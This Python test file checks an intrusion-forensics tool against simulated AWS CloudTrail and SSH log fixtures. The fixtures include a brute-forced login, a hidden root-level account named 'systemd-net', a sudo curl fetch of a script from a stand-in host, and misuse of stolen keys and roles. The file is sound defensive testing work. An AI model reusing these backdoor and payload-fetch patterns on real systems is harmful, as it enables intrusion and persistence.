"""What trace tells of people on the road, hosts beside the fallen one, names, and how it says so."""

from __future__ import annotations

from datetime import timedelta

from trace_world import (
    ACCOUNT,
    BOTO,
    CHROME,
    CI_KEY,
    FIREFOX,
    NOW,
    OFFICE,
    THIEF,
    THIEF2,
    THIEF_CLI,
    World,
    assumed,
    by_key,
    console,
    launched,
    made_key,
    made_user,
    role,
    root,
    session,
    user,
)

HOST, PRIVATE = "i-0aaaaaaaaaaaaaaa1", "10.0.1.20"
SISTER, SISTERS = "i-0aaaaaaaaaaaaaaa2", "10.0.1.21"
AWAY = "203.0.113.200"
OLD_KEY, ROGUE_KEY = "AKIAAAAAAAAAAAAAOLD1", "AKIABBBBBBBBBBBBBBB1"
LEAKED = {"kind": "exposed_access_key", "access_keys": (CI_KEY,)}


def best(found):
    return found.root_causes[0]


def lines(found):
    return "\n".join(line.what.en for line in found.timeline)


def how(found):
    return {thing.id: thing.how for thing in found.affected}


def thief(world, hours, action, **more):
    return world.call(hours, by_key("ci", CI_KEY), action, THIEF, THIEF_CLI, readOnly=False, **more)


def test_key_password_or_policy_of_a_user_that_was_there_modifies_him(told):
    world = World().ordinary()
    thief(world, 28, "iam:CreateAccessKey", **made_key("bob", ROGUE_KEY))
    thief(world, 27, "iam:CreateLoginProfile", request={"userName": "alice"})
    thief(world, 27, "iam:CreateUser", **made_user("support"))
    thief(world, 26, "iam:CreateAccessKey", **made_key("support", "AKIABBBBBBBBBBBBBBB2"))
    found = how(told(world, **LEAKED))
    assert found == {user("bob"): "modified", user("alice"): "modified", user("support"): "created"}


def test_instance_whose_role_was_carried_off_is_among_the_affected(told):
    world = World().ordinary()
    actor = session("web", HOST, "ASIASTOLENSTOLEN0001")
    for action in ("sts:GetCallerIdentity", "iam:ListUsers", "s3:ListBuckets", "ec2:DescribeInstances"):
        world.call(30, actor, action, THIEF, THIEF_CLI)
    found = told(world, kind="suspected_access_key", access_keys=("ASIASTOLENSTOLEN0001",))
    assert best(found).kind == "stolen_instance_credentials"
    assert how(found) == {HOST: "used"}


def test_names_are_completed_from_what_was_listed(told):
    world = World().ordinary()
    secret = f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:prod/db-Ab3xYz"
    group = f"arn:aws:autoscaling:us-east-1:{ACCOUNT}:autoScalingGroup:1f2e:autoScalingGroupName/herd"
    world.thing("secretsmanager.secret", secret, {"Name": "prod/db", "ARN": secret}, "us-east-1")
    world.thing(
        "autoscaling.group",
        group,
        {"AutoScalingGroupName": "herd", "AutoScalingGroupARN": group},
        "us-east-1",
    )
    thief(world, 28, "secretsmanager:GetSecretValue", request={"secretId": "prod/db"})
    thief(world, 27, "autoscaling:CreateAutoScalingGroup", request={"autoScalingGroupName": "herd"})
    template = {"CreateLaunchTemplateResponse": {"launchTemplate": {"launchTemplateId": "lt-0abc"}}}
    thief(world, 27, "ec2:CreateLaunchTemplate", response=template)
    found = told(world, **LEAKED)
    assert how(found) == {secret: "read", group: "created", "lt-0abc": "created"}
    assert "AWS::EC2::LaunchTemplate" in {thing.type for thing in found.affected}


def test_password_that_the_intruder_set_is_no_way_in(told):
    world = World().ordinary()
    thief(world, 28, "iam:UpdateLoginProfile", request={"userName": "alice"})
    world.sign_in(20, "alice", THIEF, FIREFOX, mfa="No")
    world.call(19, console("alice", "THIEFS", "false"), "iam:ListRoles", THIEF, FIREFOX)
    found = told(world, **LEAKED)
    assert {cause.kind for cause in found.root_causes} == {"leaked_access_key", "unknown"}
    assert user("alice") in found.attackers.principals


def traveller(world, fails=1):
    """Nadia abroad, never with a second factor, with the browser she has used for weeks."""
    world.person("nadia", mfa=False)
    for day in range(3, 21):
        world.sign_in(24 * day + 5, "nadia", OFFICE, mfa="No")
        actor = console("nadia", f"NADIA{day}", "false")
        for number, action in enumerate(("ec2:DescribeInstances", "iam:ListUsers", "ec2:StopInstances")):
            world.call(24 * day + 4.9 - number / 60, actor, action, OFFICE, CHROME)
    for number in range(fails):
        world.sign_in(30 + number / 60, "nadia", AWAY, mfa="No", fails=True)
    world.sign_in(29.9, "nadia", AWAY, mfa="No")
    actor = console("nadia", "AWAY", "false")
    for number in range(9):
        world.call(29.8 - number / 60, actor, "ec2:DescribeInstances", AWAY, CHROME)
    made = launched("i-0ccc1", region="ap-south-1")
    made["request"]["tagSpecificationSet"] = {"items": [{"tags": [{"key": "Owner", "value": "nadia"}]}]}
    world.call(29, actor, "ec2:RunInstances", AWAY, CHROME, **made)
    world.call(28.9, actor, "iam:CreateUser", AWAY, CHROME, **made_user("demo"))
    world.call(28.8, actor, "iam:CreateAccessKey", AWAY, CHROME, **made_key("demo", ROGUE_KEY))
    return world


def awoken(world):
    """A key that nobody has used for years and that launches machines in three regions."""
    world.person("carl", key=OLD_KEY, console=False, mfa=False, born=900)
    actor = by_key("carl", OLD_KEY)
    world.call(20, actor, "sts:GetCallerIdentity", THIEF, BOTO)
    world.call(20, actor, "iam:CreateUser", THIEF, BOTO, error="AccessDenied")
    for number, region in enumerate(("us-west-2", "eu-north-1", "sa-east-1")):
        world.call(19, actor, "ec2:RunInstances", THIEF, BOTO, **launched(f"i-0ddd{number}", region=region))
    return world


def test_traveller_is_spared_where_an_old_key_explains_more(told):
    found = told(awoken(traveller(World().ordinary())))
    assert best(found).kind == "leaked_access_key"
    assert found.attackers.principals == (user("carl"),)
    assert found.attackers.ips == (THIEF,)
    assert set(how(found)) == {"i-0ddd0", "i-0ddd1", "i-0ddd2"}


def test_console_thief_who_hands_on_a_key_is_not_spared(told):
    world = traveller(World().ordinary(), fails=4)
    actor = by_key("demo", ROGUE_KEY)
    for number, region in enumerate(("us-west-2", "eu-north-1", "sa-east-1")):
        made = launched(f"i-0ddd{number}", region=region)
        world.call(19, actor, "ec2:RunInstances", THIEF, THIEF_CLI, **made)
    found = told(world)
    assert best(found).kind == "stolen_console_password"
    assert user("nadia") in found.attackers.principals


def test_role_that_aws_acts_by_is_never_suspicious(told):
    world = World().ordinary()
    path = "aws-service-role/autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling"
    world.thing("iam.role", role(path), {"RoleName": "AWSServiceRoleForAutoScaling"})
    thief(world, 28, "autoscaling:CreateAutoScalingGroup", request={"autoScalingGroupName": "herd"})
    actor = session("AWSServiceRoleForAutoScaling", "AutoScaling", "ASIASERVICE000000001")
    actor["sessionContext"]["sessionIssuer"]["arn"] = role(path)
    made = launched("i-0eee1")
    made["request"]["tag"] = "herd"
    world.call(
        27.9, actor, "ec2:RunInstances", "autoscaling.amazonaws.com", "autoscaling.amazonaws.com", **made
    )
    found = told(world, **LEAKED)
    assert "i-0eee1" in how(found)
    assert not any(one.suspicious for one in found.inventory.roles)
    assert role(path) not in found.attackers.principals


def test_root_is_taken_when_he_gets_in_and_the_mailbox_is_named(told):
    world = World().ordinary()
    for number in range(3):
        world.call(
            30 - number / 60,
            root(),
            "signin:ConsoleLogin",
            THIEF,
            FIREFOX,
            response={"ConsoleLogin": "Failure"},
            errorMessage="Failed authentication",
            readOnly=False,
        )
    asked = world.call(29.5, root(), "signin:PasswordRecoveryRequested", THIEF, FIREFOX, readOnly=False)
    world.call(29.4, root(), "signin:PasswordRecoveryCompleted", THIEF, FIREFOX, readOnly=False)
    world.call(
        29,
        root(),
        "signin:ConsoleLogin",
        THIEF,
        FIREFOX,
        response={"ConsoleLogin": "Success"},
        additionalEventData={"MFAUsed": "No"},
        readOnly=False,
    )
    found = told(world, kind="root_compromised")
    assert best(found).since == NOW - timedelta(hours=29)
    assert "mailbox" in best(found).statement.en
    assert any(asked in one for one in best(found).for_)
    assert "3 times" in lines(found)
    assert "the intruder reads the mailbox" in lines(found)


def broken_into(world):
    for number in range(40):
        world.log(32 - number / 60, f"Failed password for deploy from {THIEF} port 2{number:04d} ssh2")
    world.log(31, f"Accepted password for deploy from {THIEF} port 23000 ssh2")
    return world


def test_account_made_on_the_host_leads_to_his_other_address(told):
    world = broken_into(World().ordinary())
    added = "new user: name=systemd-net, UID=0, GID=0, home=/root, shell=/bin/bash"
    world.log(30.9, added, program="useradd[99]")
    world.log(25, f"Accepted password for systemd-net from {THIEF2} port 23001 ssh2")
    found = told(world, kind="port_scan", resources=(HOST,))
    assert found.attackers.ips == (THIEF, THIEF2)
    assert f"came back once, from {THIEF2}." in best(found).statement.en
    assert "makes the account systemd-net" in lines(found)


def test_account_that_the_owner_made_later_is_his_own(told):
    world = broken_into(World().ordinary())
    world.log(20, "Accepted publickey for ubuntu from 192.0.2.10 port 50001 ssh2: ED25519 SHA256:owner")
    world.log(19.9, "new user: name=carol, UID=1007, GID=1007, home=/home/carol", program="useradd[99]")
    world.log(10, f"Accepted password for carol from {AWAY} port 23001 ssh2")
    assert told(world, kind="port_scan", resources=(HOST,)).attackers.ips == (THIEF,)


def test_log_in_from_a_sister_host_says_so(told):
    world = broken_into(World().ordinary())
    world.instance(SISTER, private=SISTERS)
    world.log(30, f"Accepted password for deploy from {PRIVATE} port 23001 ssh2", host="ip-10-0-1-21")
    found = told(world, kind="port_scan", resources=(SISTER,))
    assert set(how(found)) == {HOST, SISTER}
    assert f"from our own host {HOST} ({PRIVATE})" in lines(found)
    assert "after 0 guesses" not in lines(found) + best(found).statement.en
    assert lines(found).count("The guessing of passwords") == 1


def test_callers_of_a_served_port_are_no_source_of_malware(told):
    world = broken_into(World().ordinary())
    for number in range(12):
        peer, port = f"198.51.100.{number + 100}", 23000 + 131 * number
        world.flow(30.8, peer, PRIVATE, (port, 25565), size=60_000)
        world.flow(30.8, PRIVATE, peer, (25565, port), size=90_000)
    world.flow(30.7, PRIVATE, "203.0.113.77", (41001, 8080))
    world.flow(30.7, "203.0.113.77", PRIVATE, (8080, 41001), size=700_000)
    assert told(world, kind="port_scan", resources=(HOST,)).attackers.ips == (THIEF, "203.0.113.77")


def test_caller_of_a_port_that_the_security_group_opens_is_none_either(told):
    world = broken_into(World().ordinary())
    world.instance(SISTER, private=SISTERS, SecurityGroups=[{"GroupId": "sg-0aaa1"}])
    rule = {"IpProtocol": "tcp", "FromPort": 25565, "ToPort": 25565}
    world.thing("ec2.security_group", "sg-0aaa1", {"GroupId": "sg-0aaa1", "IpPermissions": [rule]})
    world.log(30, f"Accepted password for deploy from {THIEF} port 23001 ssh2", host="ip-10-0-1-21")
    world.flow(29.8, "198.51.100.100", SISTERS, (26830, 25565), size=60_000)
    world.flow(29.8, SISTERS, "198.51.100.100", (25565, 26830), size=90_000)
    assert told(world, kind="port_scan", resources=(HOST,)).attackers.ips == (THIEF,)


def test_what_was_fetched_roles_and_data_have_lines_of_their_own(told):
    world = broken_into(World().ordinary())
    fetch = "deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -s http://203.0.113.78/a.sh"
    world.log(30.7, fetch, program="sudo")
    thief(world, 28, "sts:AssumeRole", **assumed("admin", "x", "ASIATAKEN00000000001"))
    taken = session("admin", "x", "ASIATAKEN00000000001")
    for _ in range(3):
        world.call(27, taken, "s3:GetObject", THIEF, THIEF_CLI, request={"bucketName": "customers"})
    said = lines(told(world, **LEAKED))
    assert f"deploy fetches something on {HOST}: /usr/bin/curl -s http://203.0.113.78/a.sh" in said
    assert f"takes on the role {role('admin')}, once." in said
    assert "reads data in us-east-1 with s3:GetObject, 3 times: customers." in said


def test_one_is_said_in_the_singular(told):
    world = World().ordinary()
    thief(world, 28, "iam:CreateUser", **made_user("support"))
    world.call(27, by_key("ci", CI_KEY), "iam:ListRoles", THIEF, THIEF_CLI)
    said = lines(told(world, **LEAKED))
    assert "one call in one region." in said
    assert not any(wrong in said for wrong in ("1 things", "1 times", "1 regions", "1 calls", "0 refused"))


def bill(world, region, amounts):
    for ago, amount in amounts.items():
        day = (NOW - timedelta(days=ago)).date().isoformat()
        data = {"day": day, "region": region, "service": "Amazon EC2", "amount": amount, "unit": "USD"}
        world.thing("ce.cost", f"{day}|{region}", data)


def test_cost_that_began_before_the_break_in_is_not_the_abuse(told):
    world = World().ordinary()
    for region in ("eu-west-3", "eu-west-1"):
        thief(world, 28, "ec2:RunInstances", **launched(f"i-0{region}", region=region))
    bill(world, "us-east-1", dict.fromkeys(range(20), 40.0))
    bill(world, "eu-west-3", {3: 30.0, 2: 30.0, 1: 30.0, 0: 20.0})
    bill(world, "eu-west-1", {1: 90.0, 0: 60.0})
    found = told(world, **LEAKED)
    since = {row.region: row.since for row in found.cost.by_region_service}
    assert since["eu-west-3"] == (NOW - timedelta(days=3)).date().isoformat()
    assert found.cost.abuse_total == 150.0
    assert "in eu-west-1 rises" in lines(found)
    assert "in eu-west-3 rises" not in lines(found)
